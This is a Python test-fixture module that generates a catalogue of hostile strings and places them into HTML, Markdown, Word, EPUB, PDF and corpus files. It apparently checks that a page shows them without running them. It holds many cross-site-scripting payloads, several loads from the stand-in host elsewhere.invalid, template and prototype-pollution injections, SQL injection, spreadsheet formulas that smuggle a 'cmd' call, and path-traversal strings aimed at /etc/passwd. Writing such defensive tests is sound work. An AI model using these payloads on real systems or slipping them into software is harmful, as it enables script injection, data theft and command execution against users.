"""Hostile texts in documents, names and questions that try to make a page execute or load something.

Each would set ``window.harmed`` to its number, or contact another host, if a browser executed it. `THINGS`
combine a few dozen kinds of attack with the quote characters, spellings and endings that matter for each.
"""

from __future__ import annotations

import io
import json
import zipfile
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter

HOST = "elsewhere.invalid"
RUN = "window.harmed=@"
_IMAGE = f"<img src=x onerror={RUN}>"

WAYS = {
    "script": [
        f"<script>{RUN}</script>", f"<ScRiPt >{RUN};//</sCrIpT >", f"<script src=//{HOST}/@.js></script>",
        f"<script\n>{RUN}</script\n>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script type=module>{RUN}</script>",
    ],
    "handler": [
        _IMAGE, f'<img src="x" onerror="{RUN}">', f"<img src='x' onerror='{RUN}'>",
        f"<img src=`x` onerror=`{RUN}`>", f"<img/src=x/onerror={RUN}//", f"<IMG SRC=x OnErRoR={RUN}>",
        f"<details open ontoggle={RUN}><summary>more</summary></details>",
        f"<input autofocus onfocus={RUN}>", f"<video src=x onerror={RUN}></video>",
        f"<audio><source src=x onerror={RUN}></audio>", f"<body onload={RUN}>",
        f"<p style='animation:breathe 1s' onanimationstart={RUN}>moving</p>",
        f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    ],
    "svg and math": [
        f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate attributeName=x dur=1s onbegin={RUN} /></svg>",
        f"<svg><foreignObject>{_IMAGE}</foreignObject></svg>", f"<svg><style>{_IMAGE}</style></svg>",
        f"<math><mtext><mglyph><style><!--</style>{_IMAGE}--></style></mglyph></mtext></math>",
        f'<math href="javascript:{RUN}"><mi>press</mi></math>',
        f"<svg><use href=//{HOST}/@.svg#a></use></svg>",
    ],
    "frames and bases": [
        '<iframe srcdoc="<script>parent.harmed=@</script>"></iframe>',
        '<iframe src="javascript:parent.harmed=@"></iframe>',
        f"<object data=//{HOST}/@></object>", f"<embed src=//{HOST}/@>", f"<base href=//{HOST}/>",
        f'<meta http-equiv="refresh" content="0;url=//{HOST}/@">',
        f"<link rel=stylesheet href=//{HOST}/@.css>",
        f"<form action=//{HOST}/@><input type=submit></form>", f"<img src=//{HOST}/@.png>",
        f"<img srcset=//{HOST}/@.png>",
    ],
    "addresses": [
        f'<a href="javascript:{RUN}">press</a>', f"<a href='java\tscript:{RUN}'>press</a>",
        f"<a href=JaVaScRiPt&colon;{RUN}>press</a>", f"javascript:{RUN}",
        f"data:text/html;base64,{b64encode(b'<script>parent.harmed=1</script>').decode()}",
        f"vbscript:{RUN}", f"https://{HOST}/@?q=<b>", f"//{HOST}/@", "file:///etc/passwd", "%3Cscript%3E%00",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    ],
    "markdown": [
        f"[press](javascript:{RUN})", f"![see](//{HOST}/@.png)", f'![see](x "onerror={RUN}")',
        f"<javascript:{RUN}>", f"[a]: //{HOST}/@", f"`{_IMAGE}`", "# heading\\\n---", "| a | b |\n|---|---|",
        f"[x](<//{HOST}/@>)\n\n\n{_IMAGE}",
    ],
    "entities": [
        f"&lt;img src=x onerror={RUN}&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"&#x3c;svg onload={RUN}&#x3e;", f"&amp;lt;svg onload={RUN}&amp;gt;",
        "&#0;&#xFFFFFFFF;&notin;&bogus;",
        "&Tab;&NewLine;&lpar;&quot;", f"\\u003cimg src=x onerror={RUN}\\u003e",
    ],
    "attributes": [
        *(f"{quote}{end} {event}={RUN} x={quote}" for quote in ('"', "'", "`", "") for end in ("", "/>")
          for event in ("onmouseover", "autofocus onfocus")),
        f'">{_IMAGE}', f"'>{_IMAGE}", f"`>{_IMAGE}", f'\\">{_IMAGE}', f"&quot;>{_IMAGE}",
        f"\" style='position:fixed;inset:0;background:url(//{HOST}/@)' \"",
    ],
    "ends": [
        f"</textarea>{_IMAGE}", f"</title>{_IMAGE}", f"</style>{_IMAGE}", f"</script>{_IMAGE}",
        f"-->{_IMAGE}",
        f"]]>{_IMAGE}", f"</template>{_IMAGE}", f"</noscript>{_IMAGE}", f"</blockquote></li></ol>{_IMAGE}",
        f"</svg></math>{_IMAGE}", "</div></section></main></body></html>",
    ],
    "never ended": [
        "<!-- the rest is silence", "<![CDATA[ the rest", "<?php the rest", "<textarea>", "<plaintext>",
        "<title>",
        "<style>", "<xmp>", "<select><option>", "<table><tr><td>", '<img title="', "<b><i><u>", "<",
        "<a", "&",
        f"<noscript><p title='</noscript>{_IMAGE}'>",
    ],
    "styles": [
        "<style>.verbatim{display:none}</style>", f"<style>@import url(//{HOST}/@.css)</style>",
        f"<style>*{{background:url(//{HOST}/@.png)}}</style>",
        "<div style='position:fixed;inset:0;z-index:9;background:red'>cover</div>",
        "}.verbatim{display:none}.x{", "<div style=width:9999px>wide</div>", "<h1 class=unseen>hidden</h1>",
    ],
    "templates": [
        "{{harmed}}", "{{constructor.constructor('window.harmed=@')()}}", f"${{{RUN}}}", f"`${{{RUN}}}`",
        f"<%= {RUN} %>", f"#{{{RUN}}}", "{% for x in y %}", "[[${harmed}]]", "@read-only @accept",
        f"$$\\href{{javascript:{RUN}}}{{x}}$$", "{0} %s %n {name!r}",
    ],
    "programs": [
        f'"}}]}};{RUN};//', f"'}};{RUN};//", f"</script><script>{RUN}</script>", '{"__proto__":{"harmed":@}}',
        "__proto__", "constructor", "toString", "hasOwnProperty", "'; DROP TABLE documents; --",
        '=HYPERLINK("//elsewhere.invalid/@")', "@SUM(1+1)|cmd", "-2+3+cmd|' /C calc'!A0",
    ],
    "letters": [
        "\u202egnp.exe\u202c turned", "\u2066kept\u2069 apart \u2067back",
        "a\u200bb\u200cc\u200dd\u2060e\ufefff",
        "\x1b[31mred\x1b[0m \x07\x08\x7f", "null\x00byte", "line\u2028end\u2029s", "\u0085next",
        "tag\U000e0041\U000e007f",
        "Z" + "\u0351\u0336\u0489" * 80 + "algo" + "\u0334" * 80, "раураl sеcurе", "ﷺ﷽𒐫𒈙",
        "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇺🇳👍🏿" * 12, "\u0627\u0644\u0639 ltr \u05d0\u05d1\u05d2 <b>",
        "\u00ad".join("shyword"),
        "W" * 2500, "﹤script﹥ ＜script＞ ‹script›", "\ue000\ufffe\U0010ffff", "a\u0300" * 200,
        "tab\tand\u00a0space\u3000wide",
        "\u200f\u200e\u061c marks", "q" * 60 + "://" + "/" * 600, "_" * 1200,
    ],
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Thing:
    """A hostile text with its number and its kind of attack; ``word`` is next to it and nowhere else."""

    number: int
    way: str
    text: str

    @property
    def word(self) -> str:
        # A word that no tokenizer splits and no other thing contains.
        return "kelp" + "".join("bdfgklmnpr"[int(digit)] for digit in f"{self.number:03}")

    @property
    def sentence(self) -> str:
        return f"The keeper of {self.word} wrote {self.text} into the book of the harbour."

    @property
    def question(self) -> str:
        return f"What did the keeper of {self.word} write? {self.text}"[:2000]

    @property
    def file_name(self) -> str:
        """Return the text as a file name, as far as a file system allows it."""
        name = self.text.replace("/", "\u2215").replace("\x00", "")
        return f"{self.word} {name.encode()[:180].decode(errors='ignore')}.txt"


def _things() -> Iterator[Thing]:
    texts = [(way, text) for way, texts_of_way in WAYS.items() for text in texts_of_way]
    for number, (way, text) in enumerate(texts, start=1):
        yield Thing(number, way, text.replace("@", str(number)) if "@read" not in text else text)


THINGS = tuple(_things())
BY_WAY = (
    *(next(thing for thing in THINGS if thing.way == way) for way in WAYS),
    *(thing for thing in THINGS if "algo" in thing.text or "W" * 99 in thing.text),
)
"""One thing of each kind, and the longest ones, for tests that are too slow for all things."""


# -- files with hostile titles, names and headings -----------------------------------------------------------


def corpus(things: tuple[Thing, ...]) -> str:
    """Return a BEIR corpus of the things as ids, titles and texts, and a record of half surrogate pairs."""
    lines = [
        {"_id": f"{thing.text} {thing.word}", "title": thing.text, "text": thing.sentence} for thing in things
    ]
    half = "half \ud800 a pair \udfff"
    lines.append({"_id": half, "title": half, "text": f"The keeper of kelphalf wrote {half} into the book."})
    return "".join(json.dumps(line) + "\n" for line in lines)


def html(thing: Thing) -> bytes:
    """Return a page whose title, heading and text show a thing."""
    text = _escaped(thing.text)
    return (
        f"<!DOCTYPE html><html><head><title>{text}</title></head><body><h1>{text}</h1>"
        f"<p>{_escaped(thing.sentence)}</p></body></html>"
    ).encode()


def markdown(thing: Thing) -> bytes:
    """Return a Markdown file with a thing in its heading, its text and a table."""
    return f"# {thing.text}\n\n{thing.sentence}\n\n| a | b |\n|---|---|\n| {thing.text} | x |\n".encode()


def docx(thing: Thing) -> bytes:
    """Return a Word file with a thing as its title, a heading and text."""
    text, sentence = _escaped(thing.text), _escaped(thing.sentence)
    main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    style = '<w:pPr><w:pStyle w:val="Heading1"/></w:pPr>'
    paragraphs = f"<w:p>{style}<w:r><w:t>{text}</w:t></w:r></w:p><w:p><w:r><w:t>{sentence}</w:t></w:r></w:p>"
    return _zipped({
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="word/document.xml"/><Relationship Id="r2" Type="http://schemas.openxmlformats.'
        'org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>",
        "word/document.xml": f'<w:document xmlns:w="{main}"><w:body>{paragraphs}</w:body></w:document>',
        "docProps/core.xml": '<cp:coreProperties xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">'
        f"<dc:title>{text}</dc:title></cp:coreProperties>",
    })  # fmt: skip


def epub(thing: Thing) -> bytes:
    """Return a book whose title and chapter are a thing."""
    text, sentence = _escaped(thing.text), _escaped(thing.sentence)
    xhtml = 'xmlns="http://www.w3.org/1999/xhtml"'
    return _zipped({
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:'
        'container"><rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/>'
        "</rootfiles></container>",
        "b.opf": '<package version="3.0" xmlns="http://www.idpf.org/2007/opf"><metadata '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{text}</dc:title></metadata><manifest>'
        '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="c"/></spine></package>',
        "c.xhtml": f"<html {xhtml}><head><title>{text}</title></head><body><h1>{text}</h1><p>{sentence}</p>"
        "</body></html>",
    })  # fmt: skip


def pdf(thing: Thing, plain: bytes) -> bytes:
    """Return ``plain``, a PDF without a title, with a thing as its title."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
    writer.add_metadata({"/Title": thing.text})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _escaped(text: str) -> str:
    """Return a text for XML, which does not allow every character."""
    text = "".join(c if c in "\t\n" or 0x20 <= ord(c) < 0xFFFE or ord(c) > 0xFFFF else " " for c in text)
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _zipped(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()
